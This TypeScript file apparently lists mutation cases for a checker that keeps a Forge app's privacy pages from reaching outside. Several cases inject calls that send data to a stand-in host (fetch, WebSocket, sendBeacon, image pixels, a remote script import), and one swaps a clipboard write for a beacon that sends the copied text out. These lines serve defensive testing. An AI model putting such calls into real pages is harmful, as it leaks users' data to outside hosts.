/**
 * Edits by which pages reach outside, and edits of the few files that may do more than the rest.
 */
import { added, changed, type Mutation } from '../mutation';

/** A file of the pages that is no door. */
const FILE = 'static/privacy/admin/overview/verdict.ts';
const AWAY = "'https://collect.example.net'";

const imported = (name: string, code: string): Mutation =>
  added('imports', `${name}, on a page`, FILE, code);

const hidden = (name: string, code: string): Mutation =>
  added('subset', `${name}, on a page`, FILE, code);

/** `fetch` and similar functions in scripts of the pages. */
const scripts: readonly Mutation[] = [
  hidden('fetch', `export const a = (): unknown => fetch(${AWAY});`),
  hidden('fetch of window', `export const a = (): unknown => window.fetch(${AWAY});`),
  hidden('fetch of self, by name', `export const a = (): unknown => self['fetch'](${AWAY});`),
  hidden(
    'fetch by the view of the document',
    `export const a = (): unknown => document.defaultView?.fetch(${AWAY});`,
  ),
  hidden(
    'fetch by the owner of an element',
    "export const a: unknown = document.querySelector('#app')?.ownerDocument;",
  ),
  hidden(
    'fetch by an element under a made-up type',
    "const found: unknown = document.querySelector('#app');\nexport const a = found as { ownerDocument: { defaultView: { fetch: (url: string) => void } } };",
  ),
  hidden(
    'fetch by the document unpacked',
    'const { defaultView: view } = document;\nexport const a: unknown = view;',
  ),
  hidden(
    'fetch by a member whose name is made at run time',
    "const name = ['default', 'View'].join('') as 'defaultView';\nexport const a: unknown = document[name];",
  ),
  hidden(
    'fetch by the document under another type',
    'interface Bare {\n  readonly body: { readonly baseURI: string };\n}\nconst thin: Bare = document;\nexport const a = thin.body;',
  ),
  hidden('fetch by the document as anything', 'export const a: unknown = document;'),
  hidden('fetch by a copy of the document', 'export const a = { ...document };'),
  hidden(
    'a picture under another type',
    "const thin: { src: string } | null = document.querySelector('img');\nexport const a = (): void => {\n  if (thin !== null) thin.src = 'x';\n};",
  ),
  hidden(
    'fetch by the view of a click',
    'export const a = (event: MouseEvent): unknown => event.view;',
  ),
  hidden('fetch by the constructor of a tone', "export const a: unknown = 'success'.constructor;"),
  hidden('an XMLHttpRequest', 'export const a = new XMLHttpRequest();'),
  hidden('a WebSocket', `export const a = new WebSocket(${AWAY});`),
  hidden('an EventSource', `export const a = new EventSource(${AWAY});`),
  hidden('a beacon', `export const a = navigator.sendBeacon(${AWAY});`),
  hidden(
    'a picture as a beacon',
    `const pixel = new Image();\npixel.src = ${AWAY};\nexport const a = pixel;`,
  ),
  hidden('a new window', `export const a = open(${AWAY});`),
  hidden('a new address', `export const a = (): void => {\n  location.href = ${AWAY};\n};`),
  hidden(
    'a new address of the document',
    `export const a = (): void => {\n  document.location = ${AWAY};\n};`,
  ),
  hidden(
    'a message to the page around',
    "export const a = (): void => {\n  parent.postMessage('x', '*');\n};",
  ),
  hidden('a frame', "export const a = document.createElement('iframe');"),
  hidden(
    'code as a text in an element',
    "export const a = (root: Element): void => {\n  root.innerHTML = '<img src=x>';\n};",
  ),
  hidden(
    'code written into the document',
    "export const a = (): void => {\n  document.write('<script>');\n};",
  ),
  hidden('a cookie', "export const a = (): void => {\n  document.cookie = 'seen=1';\n};"),
  hidden('local storage', 'export const a: unknown = localStorage;'),
  hidden('session storage of window', 'export const a: unknown = window.sessionStorage;'),
  hidden('IndexedDB', 'export const a: unknown = indexedDB;'),
  hidden('the cache of the browser', 'export const a: unknown = caches;'),
  hidden('a channel to other pages', "export const a = new BroadcastChannel('x');"),
  hidden('a peer', 'export const a = new RTCPeerConnection();'),
  hidden('a service worker', "export const a = navigator.serviceWorker.register('x.js');"),
  hidden('the bridge below @forge/bridge', "export const a: unknown = '__bridge' in globalThis;"),
  hidden('console', "export const a = (): void => {\n  console.warn('x');\n};"),
  imported(
    'Jira asked by the page itself',
    "import { requestJira } from '@forge/bridge';\nexport const a = requestJira;",
  ),
  imported(
    'a remote',
    "import { invokeRemote } from '@forge/bridge';\nexport const a = invokeRemote;",
  ),
  imported(
    'another page opened',
    "import { router } from '@forge/bridge';\nexport const a = router;",
  ),
  imported('Forge’s functions', "import { asApp } from '@forge/api';\nexport const a = asApp;"),
  imported('code of the functions', "export { callJira } from '../../src/platform/jira';"),
  imported(
    'elements made by hand',
    "import { h } from 'preact';\nexport const a = h('img', { src: 'x' });",
  ),
  imported(
    'a package that nobody listed',
    "import { parse } from 'cheerio';\nexport const a = parse;",
  ),
  imported('code from elsewhere', "import 'https://collect.example.net/x.js';"),
];

const SAVE = 'static/privacy/ui/save-file.ts';
const COPY = 'static/privacy/ui/copy-text.ts';

/** Limits of the few files that may do more than the rest. */
const borders: readonly Mutation[] = [
  changed(
    'seal',
    'a file saved to an address elsewhere',
    SAVE,
    'link.href = address',
    `link.href = ${AWAY}`,
  ),
  changed(
    'seal',
    'a file saved to an address that changes',
    SAVE,
    'const address = URL.createObjectURL(new Blob([text], { type }));',
    "let address = URL.createObjectURL(new Blob([text], { type }));\n  address = 'https://collect.example.net';",
  ),
  changed(
    'seal',
    'a frame in the place of a link',
    SAVE,
    "createElement('a')",
    "createElement('iframe')",
  ),
  changed('seal', 'the clipboard read', COPY, 'writeText(made)', 'readText()'),
  changed(
    'seal',
    'a beacon beside the clipboard',
    COPY,
    'clipboard.writeText(made)',
    `sendBeacon(${AWAY}, made)`,
  ),
  changed(
    'seal',
    'a position beside the clipboard',
    COPY,
    'await navigator.clipboard.writeText(made)',
    'navigator.geolocation.getCurrentPosition(() => undefined)',
  ),
];

export const reachPagesMutations: readonly Mutation[] = [...scripts, ...borders];
